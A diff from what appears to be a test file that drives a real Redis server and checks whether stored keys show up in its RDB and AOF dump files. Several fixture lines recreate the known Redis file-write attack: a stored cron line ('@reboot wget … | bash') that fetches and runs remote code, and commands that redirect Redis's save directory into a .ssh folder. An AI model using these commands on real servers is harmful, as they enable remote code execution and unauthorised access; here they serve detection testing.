@@ -138,7 +138,9 @@ test('keys that a real Redis holds to be run are found in its files, packed or n
 redis-cli set ok 'a text that is none'; redis-cli set job '* * * * *'; redis-cli rpush l one two
 redis-cli config set rdbcompression yes; redis-cli config set dbfilename packed.rdb; redis-cli save
 redis-cli config set rdbcompression no; redis-cli config set dbfilename plain; redis-cli save
-redis-cli config set appendonly yes; redis-cli set y "$(printf '\\n\\n@reboot wget -qO- ${url} | bash\\n\\n')"; redis-cli del x
+redis-cli config set appendonly yes
+until [ "$(redis-cli info persistence | grep -Ec 'aof_rewrite_(in_progress|scheduled):0')" = 2 ]; do sleep 0.05; done
+redis-cli set y "$(printf '\\n\\n@reboot wget -qO- ${url} | bash\\n\\n')"; redis-cli del x
 mkdir /run/.ssh; redis-cli config set dir /run/.ssh; redis-cli save`);
   // Packed, the bytes of the line do not stand in the file one after the other.
   const has = (name: string): string =>
